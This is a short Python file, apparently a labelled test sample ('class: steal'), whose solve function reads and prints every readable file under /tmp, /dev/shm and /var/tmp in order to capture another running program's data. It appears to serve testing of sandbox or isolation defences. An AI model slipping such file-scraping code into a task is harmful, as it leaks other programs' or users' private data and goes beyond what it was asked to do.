# class: steal
# success: a file of another running program is read
import glob

def solve(x):
    for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/**") + glob.glob("/var/tmp/**"):
        try:
            print(path, open(path).read())
        except OSError:
            pass
    return 0
